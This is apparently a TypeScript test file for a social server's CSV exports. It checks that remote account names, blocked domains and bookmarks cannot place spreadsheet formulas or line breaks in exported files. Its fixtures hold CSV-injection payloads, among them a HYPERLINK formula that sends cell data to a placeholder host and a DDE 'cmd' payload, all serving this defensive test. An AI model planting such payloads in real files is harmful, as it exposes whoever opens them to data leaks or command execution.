/**
 * The CSV exports against names another server chose: a `preferredUsername` may hold
 * anything (a spreadsheet formula, a line break, a space). An account whose address an
 * import would not take back is left out, and counted in the log; no cell of any file starts
 * as a formula would (`=`, `+`, `-`, `@`, a tab, a carriage return).
 */
import { afterEach, describe, expect, it, vi } from "vitest";
import { parseCsvLine } from "../src/lib/csv";
import { blocks, bookmarks, domainBlocks, mutes, notes } from "../src/storage/schema";
import { api, db, OWNER, seedFollow, seedNote, tick } from "./helpers";
import { storeActorRow } from "./support/account-io";

const HOSTILE_NAMES = [
  '=HYPERLINK("https://evil.test/?leak="&A1,"click")',
  "+1+2",
  "-2+3",
  "@SUM(1+1)",
  "line\nbreak",
  "with space",
  "\tTAB",
  "trailing.",
];

/** A file's cells, line by line, read as an import reads them. */
async function cellsOf(file: string): Promise<string[][]> {
  const res = await api(`/outpost/exports/${file}`);
  expect(res.status).toBe(200);
  const text = await res.text();
  expect(text.endsWith("\n") || text === "").toBe(true);
  return text
    .split("\n")
    .slice(0, -1)
    .map((line) => parseCsvLine(line) ?? [`unreadable: ${line}`]);
}

const FORMULA = /^[=+\-@\t\r]/;

afterEach(() => {
  vi.restoreAllMocks();
});

describe("names another server chose", () => {
  it("leaves out of each list the accounts whose address no import takes back", async () => {
    const good = await storeActorRow("fine_user.name", "hostile-ok.test");
    const hostile = await Promise.all(
      HOSTILE_NAMES.map((name, i) => storeActorRow(name, `hostile${i}.test`)),
    );
    // A fine name on a host that is no hostname.
    hostile.push(await storeActorRow("fine", "=cmd|'/C calc'!A0"));
    for (const id of [good, ...hostile]) {
      await seedFollow(id, OWNER);
      await db()
        .insert(blocks)
        .values({ actor: id, activityId: `${id}#block`, createdAt: tick() });
      await db().insert(mutes).values({ actor: id, notifications: true, createdAt: tick() });
    }
    const warn = vi.spyOn(console, "warn");

    const following = await cellsOf("following_accounts.csv");
    expect(following.map((row) => row[0])).toEqual([
      "Account address",
      "fine_user.name@hostile-ok.test",
    ]);
    expect(warn).toHaveBeenCalledWith(
      `export: following_accounts.csv: ${hostile.length} rows left out (not an address an import takes back)`,
    );
    expect((await cellsOf("blocked_accounts.csv")).map((row) => row[0])).toEqual([
      "fine_user.name@hostile-ok.test",
    ]);
    expect((await cellsOf("muted_accounts.csv")).map((row) => row[0])).toEqual([
      "Account address",
      "fine_user.name@hostile-ok.test",
    ]);
  });

  it("writes blocked domains that are hostnames, and bookmarks that are URLs", async () => {
    await db()
      .insert(domainBlocks)
      .values([
        { domain: "blocked.hostile.test", createdAt: tick() },
        { domain: "=1+1", createdAt: tick() },
        { domain: "-dash.test", createdAt: tick() },
      ]);
    const kept = await seedNote();
    const odd = ["=IMPORTXML(1)", "@remote", "ftp://files.test/1"];
    for (const id of odd) {
      await db()
        .insert(notes)
        .values({ id, attributedTo: OWNER, visibility: "public", published: tick() });
    }
    for (const note of [kept.id, ...odd]) {
      await db().insert(bookmarks).values({ note, createdAt: tick() });
    }
    expect(await cellsOf("blocked_domains.csv")).toEqual([["blocked.hostile.test"]]);
    expect(await cellsOf("bookmarks.csv")).toEqual([[kept.id]]);
  });

  it("writes no cell that starts as a formula, in any file", async () => {
    for (const file of [
      "following_accounts.csv",
      "blocked_accounts.csv",
      "muted_accounts.csv",
      "blocked_domains.csv",
      "bookmarks.csv",
    ]) {
      for (const row of await cellsOf(file)) {
        for (const cell of row)
          expect(cell, `${file}: ${JSON.stringify(row)}`).not.toMatch(FORMULA);
      }
    }
  });
});
